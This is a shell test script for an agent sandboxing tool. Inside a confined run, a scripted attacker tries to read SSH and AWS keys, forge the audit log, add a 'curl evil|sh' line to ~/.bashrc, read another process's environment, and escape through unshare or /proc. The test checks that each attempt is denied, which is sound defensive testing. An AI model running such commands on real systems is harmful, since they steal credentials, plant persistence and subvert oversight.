#!/bin/sh
# t_sandbox.sh - [sandbox] with real processes (SPEC §9): an attacker
# script inside a confined run tries what issue 12 found an agent can do,
# as an unprivileged user (a test user is made when root), in exec mode
# and in supervised mode with masking. Every denial is paired with a
# control the same script must still manage, so the test cannot pass by
# everything failing. Policy errors and check/explain come first.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lib.sh"

# ---- policy errors with file:line (as the caller, any user) ----------
mkdir -p "$T/proj0"
cd "$T/proj0" || exit 1
refuse() {	# refuse NAME REGEX WHAT: the run exits 125 with REGEX
	sr "$1" -- /bin/true
	refused 125 "$2" "$3"
}
{ header e1; printf '[sandbox]\nwrite = ["src"]\n'; } | policy e1
refuse e1 "sandbox.write: 'src' is a relative path .*e1.toml:7\\)$" \
    "a relative path"
{ header e2; printf '[sandbox]\nwrite = ["/nonexistent-sr-dir"]\n'; } |
    policy e2
refuse e2 "sandbox.write: /nonexistent-sr-dir does not exist .*e2.toml:7\\)" \
    "a writable root that does not exist"
{ header e3; printf '[sandbox]\nwrite = ["~"]\n'; } | policy e3
refuse e3 "sandbox.write: .*/home holds the hidden path .*/home/.ssh .*e3.toml:7\\)" \
    "a hidden path under a writable root"
{ header e4; printf '[sandbox]\nwrite = ["."]\ntcp_connect = [70000]\n'; } |
    policy e4
refuse e4 "tcp_connect\\[0\\] must be a TCP port from 1 to 65535 .*e4.toml:8\\)" \
    "a port out of range"
{ header e5; printf '[sandbox]\nwrite = ["."]\nunix = false\n'; } | policy e5
refuse e5 "unknown key 'unix' in \\[sandbox\\] .*e5.toml:8\\)" "an unknown key"
{ header e6; printf '[sandbox]\nwrite = ["."]\nhide = ["~/.nothere"]\n'; } |
    policy e6
sr policy check e6
expect_rc 0 "a hidden path that does not exist is allowed"
expect_err "warning: sandbox.hide: .*/.nothere does not exist" \
    "policy check warns about a hidden path that does not exist"
{ header e7; printf '[sandbox]\nwrite = ["."]\nread = ["/usr", "/etc", "~"]\n'; } |
    policy e7
mkdir -p "$HOME/.ssh"
# hide_sr WAY ARGS...: sr with SCOPERUN_SANDBOX_HIDE=WAY, for this call only
hide_sr() {
	SCOPERUN_SANDBOX_HIDE=$1
	export SCOPERUN_SANDBOX_HIDE
	shift
	sr "$@"
	unset SCOPERUN_SANDBOX_HIDE
}
hide_sr rules policy check e7
expect_err "warning: sandbox.read: .*/home holds the hidden path .*cannot list it" \
    "policy check warns about a read root holding a hidden path (rules)"
hide_sr mounts policy check e7
expect_no_err "cannot list" "with mounts a read root holding a hidden path is listable"
hide_sr mounts policy check e6
expect_err "warning: sandbox.hide: .*/.nothere does not exist; created during a run it is not hidden" \
    "policy check warns that mounts cover only what exists"
hide_sr bogus policy check e7
expect_err "SCOPERUN_SANDBOX_HIDE must be auto, rules or mounts" \
    "an unknown way of hiding is refused"
hide_sr rules policy explain e7
expect_out "^hiding +Landlock rules around the hidden paths" "explain says rules"
hide_sr mounts policy explain e7
expect_out "^hiding +mount namespace" "explain says mount namespace"
sr policy explain e7
expect_out "^sandbox +Landlock ABI" "explain names the mechanism"
expect_out "^reads +/usr /etc .*/home$" "explain lists the read roots"
expect_out "^hidden .*/home/.ssh .*/home/.config/scoperun " "explain lists the hidden paths (the config directory whole)"
# an identity moved elsewhere is hidden where it is, the policies apart
SCOPERUN_IDENTITY=$T/id-moved
export SCOPERUN_IDENTITY
sr policy explain e7
unset SCOPERUN_IDENTITY
expect_out "^hidden .* $T/id-moved .*/home/.config/scoperun/policies " \
    "explain: a moved identity and the policy directory, each hidden"
expect_no_out "^hidden .*/home/.config/scoperun " \
    "explain: the config directory is not hidden whole then"

need_abi 6
command -v cc >/dev/null 2>&1 || { echo "t_sandbox: no cc"; exit 77; }

# In a chroot the kernel gives no user namespace and "/" is no mount to
# make private: auto hides with rules there (lib/run/sandbox_ns.c, the
# same look at mountinfo), as in a brand-new Debian made with debootstrap.
if awk '$5 == "/" { f = 1 } END { exit !f }' /proc/self/mountinfo \
    2>/dev/null; then
	auto_mounts=1
else
	auto_mounts=0
fi

# ---- hiding with rules in a crowded HOME, under a low RLIMIT_NOFILE ----
# Each sibling of a hidden path gets a rule, its descriptor kept open
# until exec within a quarter of the limit, closed beyond: both ways the
# 200 siblings are granted and ~/.ssh is not.
i=0
while [ "$i" -lt 200 ]; do
	: >"$HOME/.crowd$i"
	i=$((i + 1))
done
echo CROWD >"$HOME/.crowd150"
echo SSH-CROWD >"$HOME/.ssh/id_crowd"
{ header e8; printf '[sandbox]\nwrite = ["."]\n'; } | policy e8
for lim in unlimited 64; do
	(
		[ "$lim" = unlimited ] || ulimit -n "$lim"
		hide_sr rules e8 -- /bin/sh -c "cat $HOME/.crowd150
		    cat $HOME/.ssh/id_crowd 2>/dev/null || echo DENIED"
		echo "$rc" >"$T/rc"
	)
	rc=$(cat "$T/rc")
	expect_rc 0 "rules, descriptors $lim: the run"
	expect_out "^CROWD\$" "rules, descriptors $lim: a sibling of ~/.ssh is read"
	expect_out "^DENIED\$" "rules, descriptors $lim: ~/.ssh is not"
done
rm -f "$HOME"/.crowd* "$HOME/.ssh/id_crowd"

# ---- a run started inside a hidden path: refused, both ways -----------
# A working directory taken before the covers were mounted would still
# lead beneath them (cat id_ed25519 from ~/.ssh).
echo CWD-SSH-KEY >"$HOME/.ssh/id_cwd"
{ header cw; printf '[sandbox]\nwrite = ["%s"]\n' "$T/proj0"; } | policy cw
# mounts cannot be made in a chroot: rules alone there
[ $auto_mounts = 1 ] && ways="mounts rules" || ways=rules
for way in $ways; do
	cd "$HOME/.ssh" || exit 1
	hide_sr $way cw -- /bin/cat id_cwd
	refused 125 "sandbox: the working directory .*/.ssh lies in the hidden path .*/.ssh; start the run elsewhere .*cw.toml:6\\)" \
	    "$way: a run from inside ~/.ssh"
	expect_no_out "CWD-SSH-KEY" "$way: the key is not read through the working directory"
	cd "$T/proj0" || exit 1
	hide_sr $way cw -- /bin/cat /etc/passwd
	expect_rc 0 "$way: the same policy runs from its project"
done

# ---- the world of an unprivileged user ---------------------------------
U=$T/u
mkdir -p "$U"
if [ "$(id -u)" -eq 0 ]; then
	user=srsbx
	test_user "$user"
	chown "$user:" "$U"
	AS="setpriv --reuid=$user --regid=$user --clear-groups --"
else
	AS=
fi
# as_user CMD...: run CMD as the unprivileged user (an exec, so a
# background job's $! is the command's own pid)
as_user() { $AS "$@"; }
cc -o "$U/probe" "$SR_TESTS/e2e/sbx_probe.c" || { echo "t_sandbox: probe"; exit 77; }
chmod 755 "$U/probe"

# the user's own setup, as the user: identity, vault, a secret, the
# stores an attacker wants, a git project
UH=$U/home
cat >"$U/setup.sh" <<EOF
set -e
umask 077
export HOME=$UH XDG_CONFIG_HOME=$UH/.config XDG_DATA_HOME=$UH/.local/share
export XDG_STATE_HOME=$UH/.local/state
mkdir -p \$HOME/.ssh \$HOME/.aws \$XDG_CONFIG_HOME/scoperun/policies $U/proj
echo SSH-PRIVATE-KEY >\$HOME/.ssh/id_ed25519
echo AWS-SECRET >\$HOME/.aws/credentials
echo 'alias ll=ls' >\$HOME/.bashrc
"$SCOPERUN" init >/dev/null
printf 'granted-token-0123456789' | "$SCOPERUN" secret set tok
cd $U/proj
git init -q .
git -c user.name=t -c user.email=t@e commit -q --allow-empty -m init
EOF
chmod 644 "$U/setup.sh"
as_user sh "$U/setup.sh" >"$T/out" 2>"$T/err" </dev/null
rc=$?
expect_rc 0 "the user's setup"

# ports: two listeners (one listed for connect), one to bind that is
# not listed, one that is
port_ok=$((20000 + $$ % 20000))
port_no=$((port_ok + 1))
bind_no=$((port_ok + 2))
bind_ok=$((port_ok + 3))
$AS "$U/probe" listen "$port_ok" 60 >/dev/null 2>&1 &
l1=$!
$AS "$U/probe" listen "$port_no" 60 >/dev/null 2>&1 &
l2=$!
# a process of the user's started outside any sandbox, holding a secret
$AS env VICTIM_SECRET=outside-secret-42 sleep 60 &
victim_pid=$!
sleep 0.5

# the attacker: each attempt prints GOT:WHAT (it worked) or NO:WHAT;
# each control OK:WHAT or FAIL:WHAT
cat >"$U/proj/attack.sh" <<'EOF'
vp=$1 port_ok=$2 port_no=$3 probe=$4 sr=$5 bind_no=$6 bind_ok=$7 uid=$8
H=$HOME C=$HOME/.config/scoperun
try() { w=$1; shift; if "$@" >/dev/null 2>&1; then echo "GOT:$w"; else echo "NO:$w"; fi; }
must() { w=$1; shift; if "$@" >/dev/null 2>&1; then echo "OK:$w"; else echo "FAIL:$w"; "$@" 2>&1 | head -2; fi; }
# what differs between the ways of hiding: YES or NOPE, checked by the caller
see() { w=$1; shift; if "$@" >/dev/null 2>&1; then echo "YES:$w"; else echo "NOPE:$w"; fi; }
i=0
while [ ! -e "$H/.late" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
see home-list ls "$H"
see late-file grep -q late "$H/.late"
try proc-root cat "/proc/$vp/root$H/.ssh/id_ed25519"
try unshare-lift unshare -Urm sh -c "umount '$H/.ssh'; cat '$H/.ssh/id_ed25519'"
must same-uid test "$(id -u)" = "$uid"
must no-caps grep -Eq '^CapEff:[[:space:]]+0+$' /proc/self/status
try identity cat "$C/identity"
try vault cat "$H/.local/share/scoperun/vault.sealed"
try ssh cat "$H/.ssh/id_ed25519"
try ssh-list ls "$H/.ssh"
try aws cat "$H/.aws/credentials"
try audit-append sh -c "echo forged >>'$H/.local/state/scoperun/audit.jsonl'"
try audit-truncate truncate -s 0 "$H/.local/state/scoperun/audit.jsonl"
try policy-edit sh -c "echo '# x' >>'$C/policies/atk.toml'"
try policy-new sh -c "echo '[agent]' >'$C/policies/evil.toml'"
try bashrc sh -c "echo 'curl evil|sh' >>'$H/.bashrc'"
try environ sh -c "grep -q VICTIM_SECRET /proc/$vp/environ"
try ptrace "$probe" ptrace "$vp"
try signal kill -0 "$vp"
try tcp-unlisted "$probe" connect "$port_no"
try tcp-bind "$probe" bind "$bind_no"
try secret-ls "$sr" secret ls
must project-write sh -c 'echo data $$ >out.txt'
must project-read grep -q data out.txt
must etc cat /etc/passwd
must usr ls /usr/bin
must tmp-private sh -c 'mkdir -p sub && echo x >sub/y && rm -r sub'
must git-status git status --porcelain
must git-commit sh -c 'git add out.txt && git -c user.name=a -c user.email=a@e commit -qm agent'
must granted sh -c 'test "$TOKEN" = granted-token-0123456789'
must tcp-listed "$probe" connect "$port_ok"
must devnull sh -c 'echo x >/dev/null'
must tcp-bind-listed "$probe" bind "$bind_ok"
EOF
chmod 644 "$U/proj/attack.sh"

# the controls that prove the attacks could work without the sandbox
outside() {
	as_user "$@" >/dev/null 2>&1 && ok || bad "outside the sandbox: $*"
}
outside grep -q VICTIM_SECRET "/proc/$victim_pid/environ"
outside kill -0 "$victim_pid"
outside "$U/probe" connect "$port_no"
outside "$U/probe" bind "$bind_no"
outside "$U/probe" ptrace "$victim_pid"
outside cat "$UH/.ssh/id_ed25519"


# run MODE WAY: the attacker under the policy atk (exec or supervised),
# hiding with WAY (SCOPERUN_SANDBOX_HIDE: auto picks mounts here, unless
# in a chroot)
run_attack() {
	mode=$1 way=$2
	{ header atk
	  printf '[env]\ninherit = ["PATH", "HOME", "XDG_*"]\n'
	  printf '[secrets]\nTOKEN = "tok"\n'
	  [ "$mode" = supervised ] && printf '[exec]\nmask_output = true\n'
	  printf '[sandbox]\nwrite = ["."]\ntcp_connect = [%s]\ntcp_bind = [%s]\n' \
	      "$port_ok" "$bind_ok"; } >"$U/atk.toml"
	cat >"$U/run.sh" <<EOF
export HOME=$UH XDG_CONFIG_HOME=$UH/.config XDG_DATA_HOME=$UH/.local/share
export XDG_STATE_HOME=$UH/.local/state
cp $U/atk.toml \$XDG_CONFIG_HOME/scoperun/policies/atk.toml
chmod 600 \$XDG_CONFIG_HOME/scoperun/policies/atk.toml
cd $U/proj
rm -f \$HOME/.late
# made outside while the run goes on: readable to the agent with mounts
(sleep 0.3; echo late >\$HOME/.late) &
SCOPERUN_SANDBOX_HIDE=$way "$SCOPERUN" atk -- sh attack.sh $victim_pid $port_ok $port_no $U/probe "$SCOPERUN" $bind_no $bind_ok \$(id -u)
rc=\$?
wait
exit \$rc
EOF
	chmod 644 "$U/run.sh" "$U/atk.toml"
	as_user sh "$U/run.sh" >"$T/out" 2>"$T/err" </dev/null
	rc=$?
	mode="$mode/$way"
	expect_rc 0 "$mode: the confined run"
	for w in identity vault ssh ssh-list aws audit-append audit-truncate \
	    policy-edit policy-new bashrc environ ptrace signal tcp-unlisted \
	    tcp-bind secret-ls proc-root unshare-lift; do
		expect_out "^NO:$w\$" "$mode: the attacker is refused $w"
	done
	for w in project-write project-read etc usr tmp-private git-status \
	    git-commit granted tcp-listed devnull tcp-bind-listed same-uid \
	    no-caps; do
		expect_out "^OK:$w\$" "$mode: the agent can still $w"
	done
	expect_no_out "GOT:|FAIL:" "$mode: nothing else"
	# what the way of hiding decides: listing ~, reading what is new in it
	if [ "$way" = rules ] || { [ "$way" = auto ] && [ $auto_mounts = 0 ]; }
	then
		want=NOPE mech=landlock
	else
		want=YES mech='landlock\+mountns'
	fi
	expect_out "^$want:home-list\$" "$mode: listing ~"
	expect_out "^$want:late-file\$" "$mode: reading a file new in ~"
	grep '"event":"run"' "$UH/.local/state/scoperun/audit.jsonl" | tail -1 \
	    >"$T/out"
	expect_out "\"sandbox\":\\{\"mechanism\":\"$mech\"" \
	    "$mode: the run record names the mechanism"
}
run_attack exec auto
run_attack supervised auto
run_attack exec rules
run_attack supervised rules

# the victim lived through it all; its secret and the stores are intact
kill -0 "$victim_pid" 2>/dev/null && ok || bad "the victim was killed"
grep -q '^alias ll=ls$' "$UH/.bashrc" && ! grep -q evil "$UH/.bashrc" &&
    ok || bad "~/.bashrc was changed"
[ ! -e "$UH/.config/scoperun/policies/evil.toml" ] && ok ||
    bad "the attacker wrote a policy"

# the run record says what was enforced; the log still verifies
cat >"$U/verify.sh" <<EOF
export HOME=$UH XDG_STATE_HOME=$UH/.local/state
"$SCOPERUN" audit verify
EOF
chmod 644 "$U/verify.sh"
as_user sh "$U/verify.sh" >"$T/out" 2>"$T/err" </dev/null
rc=$?
expect_rc 0 "the audit log verifies after the attacks"
rec=$UH/.local/state/scoperun/audit.jsonl
grep '"event":"run"' "$rec" | tail -1 >"$T/out"
expect_out '"sandbox":\{"mechanism":"landlock","abi":[0-9]+,"kept":(true|false),"write":\["[^"]*/proj"\],"read":"all","hidden":\[' \
    "the run record names the mechanism, ABI and roots"
expect_out "\"tcp_connect\":\\[$port_ok\\],\"tcp_bind\":\\[$bind_ok\\],\"degraded\":\\[\\]" \
    "the run record names the ports and nothing degraded"
grep -q '"event":"exit"' "$rec" && ok || bad "the supervised exit is recorded"

# ---- root's mount namespace: no user namespace, two capabilities less ---
# A root caller keeps its capabilities in the agent but CAP_SYS_ADMIN (21)
# and CAP_DAC_READ_SEARCH (2), with which it could reach under a cover.
if [ "$(id -u)" -eq 0 ]; then
	cd "$T/proj0" || exit 1
	echo ROOT-SSH-KEY >"$HOME/.ssh/id_root"
	sleep 60 &
	rootv=$!
	{ header rt; printf '[sandbox]\nwrite = ["."]\n'; } | policy rt
	sr rt -- /bin/sh -c "
	    grep -q ROOT-SSH-KEY '$HOME/.ssh/id_root' && echo GOT:ssh
	    grep -q ROOT-SSH-KEY '/proc/$rootv/root$HOME/.ssh/id_root' && echo GOT:proc-root
	    ls '$HOME' >/dev/null && echo OK:home-list
	    test \$(id -u) = 0 && echo OK:uid0
	    eff=\$(sed -n 's/^CapEff:[[:space:]]*//p' /proc/self/status)
	    [ \$(( 0x\$eff >> 21 & 1 )) = 0 ] && echo OK:no-sys-admin
	    [ \$(( 0x\$eff >> 2 & 1 )) = 0 ] && echo OK:no-dac-read-search
	    [ \$(( 0x\$eff >> 1 & 1 )) = 1 ] && echo OK:dac-override"
	expect_rc 0 "root: the confined run"
	# in a chroot root hides with rules: its capabilities stay, ~ unlisted
	[ $auto_mounts = 1 ] && mw="home-list no-sys-admin no-dac-read-search" ||
	    mw=
	for w in $mw uid0 dac-override; do
		expect_out "^OK:$w\$" "root: $w"
	done
	expect_no_out "GOT:" "root: the key is covered, also through /proc/PID/root"
	grep -q ROOT-SSH-KEY "$HOME/.ssh/id_root" && ok ||
	    bad "root: the key is still there outside"
	kill "$rootv" 2>/dev/null
fi

# ---- the shipped templates do their job confined ------------------
# Their roots name /tmp, so their HOME must lie elsewhere (/var/tmp).
W=$(mktemp -d /var/tmp/sr-e2e-tpl.XXXXXX 2>/dev/null) || W=
if [ -n "$W" ] && [ -d "$W" ]; then
	cat >"$U/tpl.sh" <<EOT
export HOME=$W/home XDG_CONFIG_HOME=$W/home/.config
export XDG_DATA_HOME=$W/home/.local/share XDG_STATE_HOME=$W/home/.local/state
P=\$XDG_CONFIG_HOME/scoperun/policies
SR="$SCOPERUN"
SRC="$SR_SOURCE"
PROJ=$W/proj
EOT
	cat >>"$U/tpl.sh" <<'EOT'
mkdir -p "$P" "$HOME/.npm" "$HOME/.ssh" "$PROJ"
echo KEY >"$HOME/.ssh/id_ed25519"
echo 'token=x' >"$HOME/.npmrc"
for t in coding-agent ci-build diagnostics; do
	sed 's/^owner = .*/owner = "t@e"/' "$SRC/policies/$t.toml" >"$P/$t.toml"
	chmod 600 "$P/$t.toml"
done
cd "$PROJ" || exit 1
for t in coding-agent ci-build diagnostics; do
	"$SR" policy check $t >/dev/null 2>&1 && echo "OK:check-$t" ||
	    echo "FAIL:check-$t"
done
# the build agent (its grant dropped: no vault here): make and cc write
# the project and read the system, and cannot read ~/.ssh
sed -i '/^\[secrets.REGISTRY_TOKEN\]/,/^expires/d' "$P/ci-build.toml"
printf 'int main(void) { return 0; }\n' >main.c
printf 'hello: main.c\n\tcc -o hello main.c\nkey:\n\tcat $(HOME)/.ssh/id_ed25519\n' >Makefile
"$SR" ci-build -- make -s hello >/dev/null 2>&1 && [ -x hello ] &&
    echo OK:ci-make || echo FAIL:ci-make
"$SR" ci-build -- make -s key >/dev/null 2>&1 && echo GOT:ci-ssh ||
    echo NO:ci-ssh
# the MCP server's sandbox (sh stands in for npx: no network here): npm's
# cache and /tmp writable, ~/.npmrc hidden
sed -i 's/^allow = \["npx", "node"\]/allow = ["npx", "node", "sh"]/
/^\[secrets.GITHUB_TOKEN\]/,/^expires/d' "$P/coding-agent.toml"
"$SR" coding-agent -- sh -c 'mkdir -p ~/.npm/_cacache &&
    echo x >~/.npm/_cacache/y && echo x >/tmp/sr-tpl-$$ && rm /tmp/sr-tpl-$$' &&
    echo OK:mcp-cache || echo FAIL:mcp-cache
"$SR" coding-agent -- sh -c 'cat ~/.npmrc' >/dev/null 2>&1 &&
    echo GOT:mcp-npmrc || echo NO:mcp-npmrc
"$SR" diagnostics -- df / >/dev/null && echo OK:diag-df || echo FAIL:diag-df
EOT
	chmod 644 "$U/tpl.sh"
	[ -n "$AS" ] && chown "$user:" "$W"
	as_user sh "$U/tpl.sh" >"$T/out" 2>"$T/err" </dev/null
	rc=$?
	for w in check-coding-agent check-ci-build check-diagnostics ci-make \
	    mcp-cache diag-df; do
		expect_out "^OK:$w\$" "template: $w"
	done
	expect_out "^NO:ci-ssh\$" "template: the build cannot read ~/.ssh"
	expect_out "^NO:mcp-npmrc\$" "template: the MCP server cannot read ~/.npmrc"
	expect_no_out "GOT:|FAIL:" "template: nothing else"
	rm -rf "$W"
fi

kill "$victim_pid" "$l1" "$l2" 2>/dev/null
wait 2>/dev/null
finish
